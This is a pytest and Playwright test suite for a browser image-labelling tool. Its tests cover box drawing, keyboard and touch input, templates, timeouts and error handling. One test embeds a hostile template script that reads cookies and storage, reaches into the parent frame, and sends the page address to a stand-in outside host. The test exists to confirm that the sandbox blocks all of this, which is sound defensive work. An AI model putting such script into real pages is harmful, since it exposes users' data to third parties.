"""A person's work in a browser: boxes in the output are those that were drawn, to the pixel."""

from __future__ import annotations

import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageDraw
from portal_house import House

from gt_workflow.service.server import Server
from gt_workflow.workflow import templates

playwright = pytest.importorskip(
    "playwright.sync_api", reason="playwright is not installed; it drives the browser"
)

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "chrome"))), None)
FLAGS = [
    *("--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update"),
]
TEMPLATES = Path(__file__).parent / "templates"
WIDTH, HEIGHT = 640, 480
OUTPUT = "s3://bucket/output/cats/manifests/output/output.manifest"

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


class Desk:
    """A worker's browser before a service with one job."""

    def __init__(self, folder: Path, chromium: Any) -> None:
        self.house = House(folder)
        self.server = Server()
        self.server.start(self.house.app)
        self._chromium = chromium
        self.page: Any = None

    def job(self, template: str | None = None, *, kind: str = "label", **job: Any) -> None:
        """Put up a job whose images have WIDTH x HEIGHT pixels."""
        invitation = self.house.invite("Ada")
        self.house.job(kind=kind, **job)
        for index in range(job.get("objects", 3)):
            self.house.storage.objects[f"s3://bucket/cats/photo {index}.jpg"] = photograph(index)
        text = template or templates.render(kind, audited=None if kind == "label" else "boxes")
        self.house.storage.objects["s3://bucket/cats/template.liquid"] = text.encode()
        self.address = f"{self.server.address}/_/#invite={invitation}"

    def sit_down(self, *, by_keys: bool = False, **context: Any) -> None:
        """Open the page and the job, up to its first image."""
        self.begin(by_keys=by_keys, **context)
        self.ready()

    def begin(self, *, by_keys: bool = False, install_clock: bool = False, **context: Any) -> None:
        """Open the page and the job."""
        options = {"viewport": {"width": 1280, "height": 720}} | context
        self.context = self._chromium.new_context(**options)
        self.context.set_default_timeout(20_000)
        self.page = self.context.new_page()
        self.faults: list[str] = []
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        if install_clock:
            self.page.clock.install()
        self.page.goto(self.address)
        start = self.page.get_by_role("button", name="Start")
        start.wait_for()
        if by_keys:
            self.page.keyboard.press("Enter")
        else:
            start.click()

    @property
    def frame(self) -> Any:
        return self.page.frame_locator("iframe.current")

    def ready(self) -> None:
        """Wait for an image to be drawn on."""
        self.frame.locator(".stage .photograph").wait_for()
        self.page.wait_for_function(
            "() => document.activeElement === document.querySelector('iframe.current')"
        )

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)

    def status(self) -> str:
        return str(self.frame.locator(".status").inner_text())

    def count(self) -> str:
        return str(self.frame.locator(".count").inner_text())

    def submit(self, *, by_mouse: bool = False) -> None:
        """Submit, and wait for what comes next."""
        before = self.page.locator("iframe.current").get_attribute("src")
        if by_mouse:
            self.frame.get_by_role("button", name="Submit").click()
        else:
            self.press("Enter")
        self.page.wait_for_function(
            "(before) => document.querySelector('iframe.current')?.getAttribute('src') !== before",
            arg=before,
        )

    def screen(self, x: float, y: float) -> tuple[float, float]:
        """Where a pixel's corner of the stored raster stands in the window."""
        place = self.frame.locator(".photograph").bounding_box()
        scale = place["width"] / WIDTH
        return place["x"] + x * scale, place["y"] + y * scale

    def drag(self, left: int, top: int, right: int, bottom: int) -> None:
        mouse = self.page.mouse
        mouse.move(*self.screen(left, top))
        mouse.down()
        mouse.move(*self.screen((left + right) / 2, bottom))
        mouse.move(*self.screen(right, bottom))
        mouse.up()

    def output(self) -> list[dict[str, Any]]:
        """The job's output manifest, once all is labelled."""
        self.house.settle()
        lines = self.house.storage.objects[OUTPUT].splitlines()
        return [json.loads(line) for line in lines]

    def responses(self) -> list[dict[str, Any]]:
        """What the worker answered, as the worker response files keep it."""
        self.house.settle()
        objects = self.house.storage.objects
        names = sorted(uri for uri in objects if "/worker-response/" in uri)
        found = [json.loads(objects[name]) for name in names]
        return [one["answers"][0]["answerContent"] for one in found]

    def close(self) -> None:
        if self.page is not None:
            self.context.close()
        self.server.stop()
        self.house.close()


@pytest.fixture
def desk(tmp_path: Path, chromium: Any) -> Iterator[Desk]:
    desk = Desk(tmp_path, chromium)
    yield desk
    desk.close()


def photograph(index: int) -> bytes:
    image = Image.new("RGB", (WIDTH, HEIGHT), (90 + 10 * index, 120, 100))
    draw = ImageDraw.Draw(image)
    draw.ellipse((100 + 40 * index, 80, 260 + 40 * index, 220), fill=(200, 90, 60))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG")
    return buffer.getvalue()


def drawn(line: dict[str, Any], attribute: str = "boxes") -> list[tuple[str, int, int, int, int]]:
    """(label, left, top, width, height) of an output line."""
    names = line[f"{attribute}-metadata"]["class-map"]
    sides = ("left", "top", "width", "height")
    return [
        (names[str(box["class_id"])], *(box[side] for side in sides))
        for box in line[attribute]["annotations"]
    ]


# The whole job


@pytest.mark.parametrize("ratio", [1, 1.5, 2])
def test_boxes_drawn_by_mouse_are_in_the_output_to_the_pixel_at_any_zoom(desk, ratio):
    desk.job(objects=3)
    desk.sit_down(device_scale_factor=ratio)
    desk.drag(17, 33, 201, 150)
    desk.frame.get_by_role("button", name="dog").click()
    desk.drag(640, 480, 411, 307)  # from the image's very corner
    desk.submit(by_mouse=True)
    desk.ready()
    desk.page.mouse.move(*desk.screen(200, 200))
    desk.page.mouse.wheel(0, -400)
    desk.page.wait_for_timeout(100)
    desk.drag(151, 149, 303, 251)
    desk.page.mouse.move(*desk.screen(222, 222))
    desk.page.mouse.wheel(0, -900)
    desk.page.wait_for_timeout(100)
    desk.drag(207, 213, 231, 229)
    desk.submit(by_mouse=True)
    desk.ready()
    desk.frame.get_by_role("button", name="Nothing to label").click()
    desk.frame.get_by_role("button", name="Submit").click()
    desk.page.get_by_text("All done, thank you").wait_for()
    first, second, third = desk.output()
    assert drawn(first) == [("cat", 17, 33, 184, 117), ("dog", 411, 307, 229, 173)]
    # The label in use stays the one in use.
    assert drawn(second) == [("dog", 151, 149, 152, 102), ("dog", 207, 213, 24, 16)]
    assert drawn(third) == []
    assert desk.faults == []


def test_a_job_is_done_by_keyboard_alone_with_a_reload_in_the_middle(desk):
    desk.job(objects=3)
    desk.sit_down(by_keys=True)
    desk.press("b", "2", *["Shift+ArrowLeft"] * 30, *["Shift+ArrowUp"] * 30)  # to the corner
    desk.press(*["ArrowRight"] * 7, *["ArrowDown"] * 5)
    desk.press(*["Control+Shift+ArrowLeft"] * 20, *["Control+Shift+ArrowUp"] * 20)
    desk.page.reload()
    desk.ready()
    assert desk.count() == "1 box"
    desk.press("Tab", "c", "Delete", "Control+z", "Control+Shift+z", "Control+z")
    assert desk.count() == "1 box"
    desk.submit()
    desk.ready()
    desk.press("p")
    assert desk.count() == "1 box"
    desk.press("Control+z", "b", "d", "Escape", "Tab", "Tab", "Delete", "n")
    assert desk.status() == "There are boxes. Delete them if there is nothing to label."
    desk.press("Tab", "Delete", "Enter")
    assert desk.status() == "Draw a box, or press N if there is nothing to label."
    desk.press("n")
    desk.submit()
    desk.ready()
    desk.press("b", "Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    first, second, third = desk.output()
    assert drawn(first) == [("dog", 7, 5, 2, 2)]
    assert drawn(second) == []
    assert len(drawn(third)) == 1
    assert desk.faults == []


def test_a_box_is_moved_and_resized_by_its_handles_and_one_beneath_is_reached(desk):
    desk.job(objects=1)
    desk.sit_down()
    desk.drag(100, 100, 300, 300)
    desk.page.keyboard.down("Shift")
    desk.drag(150, 150, 250, 250)
    desk.page.keyboard.up("Shift")
    desk.page.mouse.click(*desk.screen(200, 200))  # the smaller one
    desk.drag(200, 200, 210, 195)
    desk.page.mouse.click(*desk.screen(200, 200))  # the larger one beneath
    desk.drag(300, 200, 330, 200)
    desk.drag(100, 100, 90, 80)
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert drawn(desk.output()[0]) == [("cat", 90, 80, 240, 220), ("cat", 160, 145, 100, 100)]


def test_given_boxes_are_dashed_until_they_are_touched_and_adjusted(desk):
    text = (TEMPLATES / "adjust_from_a_manifest_line.liquid.html").read_text()
    desk.job(text, kind="adjust", objects=2)
    desk.sit_down()
    assert desk.frame.locator('.box[data-given="true"]').count() == 2
    desk.press("Tab", "ArrowRight")
    assert desk.frame.locator('svg > g:first-child .box[data-given="true"]').count() == 1
    desk.submit()
    desk.ready()
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    one, other = desk.responses()
    assert one == {
        "boundingBox": {
            "boundingBoxes": [
                {"label": "cat", "left": 3, "top": 2, "width": 10, "height": 12},
                {"label": "dog", "left": 30, "top": 20, "width": 20, "height": 10},
            ],
            "initialValueModified": True,
            "inputImageProperties": {"height": HEIGHT, "width": WIDTH},
        }
    }
    assert other["boundingBox"]["initialValueModified"] is False


def test_boxes_are_judged_with_a_comment(desk):
    text = (TEMPLATES / "verify_with_an_overlay.liquid.html").read_text()
    desk.job(text, kind="verify", objects=2, labels=("good", "bad", "not sure"))
    desk.sit_down()
    assert desk.frame.locator(".box").count() == 2
    desk.press("Enter")
    assert desk.status() == "Choose a verdict first."
    desk.press("2")
    comment = desk.frame.get_by_role("textbox", name="Why?")
    comment.fill("The left one")
    desk.page.reload()
    desk.ready()
    comment.wait_for()
    desk.frame.get_by_role("button", name="Submit").click()
    desk.page.wait_for_timeout(300)
    desk.ready()
    desk.press("1", "Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert desk.responses() == [
        {"annotatedResult": {"label": "bad", "workerComment": "The left one"}},
        {"annotatedResult": {"label": "good"}},
    ]
    bad, good = desk.output()
    assert bad["checked-metadata"]["worker-feedback"] == [{"comment": "The left one"}]
    assert good["checked-metadata"]["class-name"] == "good"


def test_a_declined_image_makes_way_for_the_next_which_has_the_keys(desk):
    desk.job(objects=2)
    desk.sit_down()
    desk.drag(10, 10, 50, 50)
    desk.page.get_by_role("button", name="Decline").click()
    desk.page.get_by_label("Another reason", exact=True).fill("It is upside down")
    desk.press("Enter")
    desk.page.get_by_text("Declined. Here is the next image.").wait_for()
    desk.ready()
    assert desk.count() == "0 boxes"
    desk.press("n", "Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert desk.house.counters()["HumanLabeled"] == 1


def test_who_leaves_gives_back_what_was_fetched_ahead(desk):
    desk.job(objects=3)
    desk.sit_down()
    desk.page.locator("iframe").nth(1).wait_for(state="attached")
    with desk.page.expect_response(lambda reply: "progress" in reply.text()):
        desk.page.get_by_role("button", name="Return").click()
    desk.page.wait_for_load_state("networkidle")
    desk.page.reload()
    desk.page.get_by_role("button", name="Start").wait_for()
    assert desk.page.get_by_text("3 images for you").is_visible()


def test_a_task_that_waited_too_long_is_exchanged_for_a_fresh_one(desk):
    desk.job(objects=3)
    desk.begin(install_clock=True)
    desk.ready()
    desk.page.locator("iframe").nth(1).wait_for(state="attached")
    desk.page.clock.fast_forward("09:00")
    assert desk.page.locator(".clock.hurry").is_visible()
    ahead = desk.page.locator("iframe").nth(1).get_attribute("src")
    desk.press("n")
    desk.submit()
    desk.ready()
    assert desk.page.locator("iframe.current").get_attribute("src") != ahead
    assert not desk.page.locator(".clock.hurry").is_visible()
    for _ in range(2):
        desk.ready()
        desk.press("n", "Enter")
        desk.page.wait_for_timeout(500)
    desk.page.get_by_text("All done, thank you").wait_for()
    assert desk.house.counters()["HumanLabeled"] == 3


def test_an_image_whose_time_is_over_is_taken_away(desk):
    desk.job(objects=2)
    desk.begin(install_clock=True)
    desk.ready()
    desk.page.clock.fast_forward("10:01")
    desk.page.get_by_text("Its time is over; somebody else may get it.").wait_for()
    desk.page.get_by_role("button", name="Next image").click()
    desk.ready()
    desk.press("n", "Enter")
    desk.page.wait_for_function("() => !document.querySelector('.curtain')")


# Templates


def test_the_guides_sample_is_usable(desk):
    desk.job((TEMPLATES / "boxes_as_in_the_guide.liquid.html").read_text(), objects=1)
    desk.sit_down()
    assert desk.frame.get_by_text("Draw boxes over each object.").is_visible()
    assert not desk.frame.get_by_text("Inspect the image").is_visible()
    desk.frame.get_by_role("button", name="More").click()
    assert desk.frame.get_by_text("Inspect the image").is_visible()
    desk.press("Escape")
    desk.drag(10, 10, 60, 50)
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert desk.responses() == [
        {
            "annotatedResult": {
                "boundingBoxes": [
                    {"label": "cat", "left": 10, "top": 10, "width": 50, "height": 40}
                ],
                "inputImageProperties": {"height": HEIGHT, "width": WIDTH},
            }
        }
    ]


def test_other_elements_and_the_templates_own_script_are_in_the_answer(desk):
    desk.job((TEMPLATES / "more_than_boxes.liquid.html").read_text(), objects=1)
    desk.sit_down()
    desk.press("n")
    desk.frame.get_by_text("Dark").click()
    desk.frame.get_by_text("Day").click()
    desk.frame.get_by_text("Night").click()
    desk.frame.get_by_role("button", name="Send").click()
    assert desk.page.get_by_text("All done, thank you").count() == 0  # a field is required
    desk.frame.get_by_label("Where is this?").fill("in the garden")
    desk.frame.locator("select").select_option("winter")
    desk.frame.get_by_role("button", name="Send").click()
    desk.page.get_by_text("All done, thank you").wait_for()
    [answer] = desk.responses()
    assert answer.pop("boundingBox")["boundingBoxes"] == []
    assert answer == {
        "is": {"blurry": False, "dark": True},
        "time": {"day": False, "night": True},
        "place": "in the garden",
        "note": "",
        "season": "winter",
        "told": "by the template's own script",
    }


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{{ task.input.taskObject | no_filter }}", "unknown filter"),
        (
            '<crowd-form><crowd-bounding-box src="x" labels="[cat]"></crowd-bounding-box>',
            "labels cannot be read: cat is no value at character 2",
        ),
        (
            '<crowd-form><crowd-bounding-box src="/_/none" labels="[1]"></crowd-bounding-box>',
            "labels must be a list of texts",
        ),
        (
            "<crowd-form><crowd-bounding-box src='/_/none' labels=\"['a']\"></crowd-bounding-box>",
            "the image cannot be shown",
        ),
    ],
)
def test_a_template_with_an_error_says_so_and_the_task_can_be_declined(desk, template, message):
    desk.job(template, objects=1)
    desk.begin()
    desk.frame.get_by_text(message).wait_for()
    desk.page.get_by_role("button", name="Decline").click()
    desk.page.get_by_role("button", name="Decline this image").click()
    desk.page.get_by_text("All done, thank you").wait_for()


def test_a_hostile_template_reaches_nothing(desk):
    template = (
        templates.render("label")
        + """
<script>
  const found = [];
  const attempt = (name, act) => {
    try { act(); found.push(name); } catch { /* as it has to be */ }
  };
  attempt("parent", () => parent.document.body);
  attempt("top", () => { top.location = "https://elsewhere.invalid/"; });
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("eval", () => eval("1"));
  window.open("https://elsewhere.invalid/");
  new Image().src = "https://elsewhere.invalid/?" + location.href;
  fetch("/_/api/me").then(() => found.push("fetch"), () => {});
  document.title = "ran";
  setTimeout(() => { document.body.dataset.found = found.join(); }, 300);
</script>
<img src="https://elsewhere.invalid/x.png">"""
    )
    desk.job(template, objects=1)
    desk.begin()
    answered: list[str] = []
    refused: list[tuple[str, str]] = []
    desk.page.on("response", lambda response: answered.append(response.url))
    desk.page.on("requestfailed", lambda lost: refused.append((lost.url, lost.failure)))
    desk.page.reload()
    desk.ready()
    desk.page.wait_for_timeout(700)
    assert desk.frame.locator("body").get_attribute("data-found") == ""
    home = desk.server.address
    assert [url for url in answered if not url.startswith(home)] == []
    assert {reason for url, reason in refused if "elsewhere" in url} == {"csp"}
    assert desk.page.url.startswith(home)
    desk.press("n", "Enter")
    desk.page.get_by_text("All done, thank you").wait_for()


# Troubles


def test_a_lost_connection_loses_nothing(desk):
    desk.job(objects=1)
    desk.sit_down()
    desk.drag(10, 20, 110, 90)
    desk.page.route("**/submit*", lambda route: route.abort())
    desk.press("Enter")
    desk.frame.get_by_text("The service cannot be reached.").wait_for()
    assert desk.count() == "1 box"
    desk.page.unroute("**/submit*")
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert drawn(desk.output()[0]) == [("cat", 10, 20, 100, 70)]


def test_a_refused_answer_is_told_beside_the_image(desk):
    desk.job((TEMPLATES / "boxes_as_in_the_guide.liquid.html").read_text(), labels=("x", "y"))
    desk.sit_down()
    desk.drag(10, 20, 110, 90)
    desk.press("Enter")
    desk.frame.get_by_text(re.compile("is not one of the job's labels")).wait_for()
    assert desk.count() == "1 box"


def test_hundreds_of_boxes_can_be_worked_with(desk):
    boxes = [
        {"class_id": index % 2, "left": 20 * (index % 30), "top": 40 * (index // 30),
         "width": 18, "height": 36}
        for index in range(300)
    ]  # fmt: skip
    line = json.dumps([{"label": "cat", **box} for box in boxes]).replace("{", "{ ")
    text = (TEMPLATES / "boxes_as_in_the_guide.liquid.html").read_text()
    desk.job(text.replace('header="Draw', f"initial-value='{line}' header=\"Draw"), objects=1)
    desk.sit_down()
    assert desk.count() == "300 boxes"
    desk.page.mouse.move(*desk.screen(300, 200))
    for _ in range(10):
        desk.page.mouse.wheel(0, -50)
    desk.press("f", "Tab", "ArrowRight", "d")
    assert desk.count() == "301 boxes"
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    [answer] = desk.responses()
    assert len(answer["annotatedResult"]["boundingBoxes"]) == 301
    assert answer["annotatedResult"]["initialValueModified"] is True


def test_a_finger_draws_and_two_fingers_zoom(desk):
    desk.job(objects=1)
    desk.sit_down(has_touch=True)
    session = desk.context.new_cdp_session(desk.page)

    def touch(kind: str, *points: tuple[float, float]) -> None:
        told = [{"x": x, "y": y, "id": index} for index, (x, y) in enumerate(points)]
        session.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": told})

    touch("touchStart", desk.screen(100, 100))
    touch("touchMove", desk.screen(150, 190))
    touch("touchMove", desk.screen(200, 200))
    touch("touchEnd")
    assert desk.count() == "1 box"
    wide = desk.frame.locator(".photograph").bounding_box()["width"]
    x, y = desk.screen(320, 240)
    touch("touchStart", (x - 20, y), (x + 20, y))
    touch("touchMove", (x - 50, y), (x + 50, y))
    touch("touchMove", (x - 60, y), (x + 60, y))
    touch("touchEnd")
    desk.page.wait_for_timeout(200)
    assert desk.frame.locator(".photograph").bounding_box()["width"] > 2 * wide
    assert desk.count() == "1 box"
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert drawn(desk.output()[0]) == [("cat", 100, 100, 100, 100)]


def test_an_image_that_asks_to_be_turned_is_shown_as_it_is_stored(desk):
    desk.job(objects=1)
    image = Image.open(io.BytesIO(photograph(0)))
    exif = image.getexif()
    exif[0x0112] = 6
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    desk.house.storage.objects["s3://bucket/cats/photo 0.jpg"] = buffer.getvalue()
    desk.sit_down()
    place = desk.frame.locator(".photograph").bounding_box()
    assert place["width"] / place["height"] == pytest.approx(WIDTH / HEIGHT, rel=0.01)
    desk.drag(40, 50, 90, 120)
    desk.press("Enter")
    desk.page.get_by_text("All done, thank you").wait_for()
    assert drawn(desk.output()[0]) == [("cat", 40, 50, 50, 70)]
